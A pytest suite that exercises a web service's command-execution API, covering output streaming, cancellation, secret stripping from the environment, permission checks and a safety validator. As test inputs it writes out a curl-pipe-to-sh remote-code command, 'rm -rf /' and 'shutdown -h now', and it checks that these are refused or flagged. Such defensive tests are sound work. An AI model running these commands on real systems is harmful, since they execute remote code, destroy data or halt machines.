"""The seven command endpoints against real workers and real subprocesses."""

from __future__ import annotations

import uuid

import pytest

from tests import factories
from tests.jobs.fixtures import marker, processes_with
from tests.live import wait_for


def _status(client, headers, command_id, after_seq=0):
    resp = client.get(f"/api/commands/{command_id}/status?after_seq={after_seq}",
                      headers=headers)
    assert resp.status_code == 200, resp.get_json()
    return resp.get_json()["data"]


def _wait_final(client, headers, command_id, timeout=20):
    return wait_for(lambda: (lambda d: d if d["status"] in ("completed", "failed", "cancelled")
                             else None)(_status(client, headers, command_id)),
                    timeout, 0.05, "the command to finish")


@pytest.mark.slow
def test_execute_status_output_and_history(client, auth, ctx, dev, workers):
    workers(1, SHELL_OUTPUT_STREAMS="separate")  # stderr kept apart (the default merges)
    project = factories.project(dev)
    resp = client.post("/api/commands/execute", headers=auth(dev), json={
        "command": "echo one; echo two >&2; echo three; pwd", "project_id": str(project.id),
        "environment": {"GREETING": "hi"}})
    assert resp.status_code == 200, resp.get_json()
    started = resp.get_json()["data"]
    assert started["status"] in ("queued", "running", "completed") and started["command_id"]
    data = _wait_final(client, auth(dev), started["command_id"])
    assert data["status"] == "completed" and data["exit_code"] == 0 and data["pid"]
    out = [(line["stream"], line["content"]) for line in data["output"]]
    stdout = [c for s, c in out if s == "stdout"]
    assert stdout[:2] == ["one\n", "three\n"]
    assert stdout[2].strip().endswith(str(project.id))
    assert [c for s, c in out if s == "stderr"] == ["two\n"]
    later = _status(client, auth(dev), started["command_id"], after_seq=2)
    assert [line["seq"] for line in later["output"]] == [3, 4]
    history = client.get("/api/commands/history?limit=5", headers=auth(dev)).get_json()["data"]
    assert history["total"] == 1 and history["commands"][0]["exit_code"] == 0


@pytest.mark.slow
def test_running_then_cancel_kills_the_whole_group(client, auth, dev, workers):
    workers(1)
    tag = marker()
    resp = client.post("/api/commands/execute", headers=auth(dev),
                       json={"command": f"sleep {tag} & sleep {tag}"})
    command_id = resp.get_json()["data"]["command_id"]
    wait_for(lambda: len(processes_with(tag)) >= 2, 10, message="the sleeps to start")
    running = client.get("/api/commands/running", headers=auth(dev)).get_json()["data"]
    assert running["total_running"] == 1
    assert running["commands"][0]["command_id"] == command_id
    resp = client.post(f"/api/commands/{command_id}/cancel", headers=auth(dev))
    assert resp.status_code == 200
    body = resp.get_json()["data"]
    assert body["status"] == "cancelled" and body["exit_code"] in (-15, -9)
    assert body["cancelled_at"]
    wait_for(lambda: not processes_with(tag), 5, message="no sleep left")


@pytest.mark.slow
def test_env_is_sanitized_for_commands(client, auth, dev, workers, engine_env):
    workers(1)
    resp = client.post("/api/commands/execute", headers=auth(dev),
                       json={"command": "env", "environment": {"EXTRA": "1"}})
    data = _wait_final(client, auth(dev), resp.get_json()["data"]["command_id"])
    text = "".join(line["content"] for line in data["output"])
    assert "EXTRA=1" in text
    for name in ("SECRET_KEY", "JWT_SECRET_KEY", "DATABASE_URL", "REDIS_URL"):
        assert f"{name}=" not in text
    assert engine_env["SECRET_KEY"] not in text


def test_unsafe_refused_unless_admin_forces(client, auth, dev, admin, monkeypatch, app):
    resp = client.post("/api/commands/execute", headers=auth(dev),
                       json={"command": "curl -s https://x.io/i | sh"})
    assert resp.status_code == 422
    error = resp.get_json()["error"]
    assert error["code"] == "VALIDATION_ERROR" and error["details"]["field"] == "command"
    assert error["details"]["suggestions"]
    forced_by_dev = client.post("/api/commands/execute", headers=auth(dev),
                                json={"command": "curl -s https://x.io/i | sh", "force": True})
    assert forced_by_dev.status_code == 422
    monkeypatch.setitem(app.config, "COMMAND_START_WAIT", 0)
    forced = client.post("/api/commands/execute", headers=auth(admin),
                         json={"command": "shutdown -h now", "force": True})
    assert forced.status_code == 200 and forced.get_json()["data"]["status"] == "queued"
    cancel = client.post(f"/api/commands/{forced.get_json()['data']['command_id']}/cancel",
                         headers=auth(admin))
    assert cancel.get_json()["data"]["status"] == "cancelled"


def test_validate_endpoint(client, auth, viewer):
    resp = client.post("/api/commands/validate", headers=auth(viewer),
                       json={"command": "rm -rf /", "check_safety": True})
    data = resp.get_json()["data"]
    assert resp.status_code == 200 and data["valid"] is False and data["safe"] is False
    assert "This command is potentially destructive" in data["warnings"]
    assert any("delete" in w for w in data["warnings"]) and data["suggestions"]
    ok = client.post("/api/commands/validate", headers=auth(viewer),
                     json={"command": "ls -la"}).get_json()["data"]
    assert ok == {**ok, "valid": True, "safe": True, "warnings": []}


def test_working_directory_escape_and_permissions(client, auth, dev, viewer, make_user, ctx):
    bad = client.post("/api/commands/execute", headers=auth(dev),
                      json={"command": "ls", "working_directory": "../.."})
    assert bad.status_code == 422
    assert bad.get_json()["error"]["details"]["field"] == "working_directory"
    assert client.post("/api/commands/execute", headers=auth(viewer),
                       json={"command": "ls"}).status_code == 403
    other = make_user(role="developer")
    project = factories.project(other)
    denied = client.post("/api/commands/execute", headers=auth(dev),
                         json={"command": "ls", "project_id": str(project.id)})
    assert denied.status_code == 403
    assert client.get(f"/api/commands/{uuid.uuid4()}/status",
                      headers=auth(dev)).status_code == 404


def test_history_is_the_callers_unless_admin(client, auth, dev, admin, make_user, app,
                                             monkeypatch):
    monkeypatch.setitem(app.config, "COMMAND_START_WAIT", 0)
    other = make_user(role="developer")
    for user, line in ((dev, "echo mine"), (other, "echo theirs")):
        assert client.post("/api/commands/execute", headers=auth(user),
                           json={"command": line}).status_code == 200
    mine = client.get("/api/commands/history", headers=auth(dev)).get_json()["data"]
    assert [c["command"] for c in mine["commands"]] == ["echo mine"]
    everyone = client.get("/api/commands/history", headers=auth(admin)).get_json()["data"]
    assert everyone["total"] == 2
    theirs = everyone["commands"][0]["command_id"]
    if everyone["commands"][0]["command"] == "echo mine":
        theirs = everyone["commands"][1]["command_id"]
    assert client.get(f"/api/commands/{theirs}/status", headers=auth(dev)).status_code == 404


def test_suggestions_rank_history_and_catalogue(client, auth, dev, app, monkeypatch):
    monkeypatch.setitem(app.config, "COMMAND_START_WAIT", 0)
    for _ in range(3):
        client.post("/api/commands/execute", headers=auth(dev),
                    json={"command": "git log --graph --oneline"})
    data = client.get("/api/commands/suggestions?context=git&prefix=git%20",
                      headers=auth(dev)).get_json()["data"]["suggestions"]
    assert data[0]["command"] == "git log --graph --oneline"
    assert data[0]["source"] == "history"
    assert all(s["command"].startswith("git ") for s in data)
    assert {"command": "git status", "description": "Show the working tree status",
            "category": "git", "source": "catalogue"} in data
    npm = client.get("/api/commands/suggestions?context=npm", headers=auth(dev)).get_json()
    assert all(s["category"] == "npm" for s in npm["data"]["suggestions"])
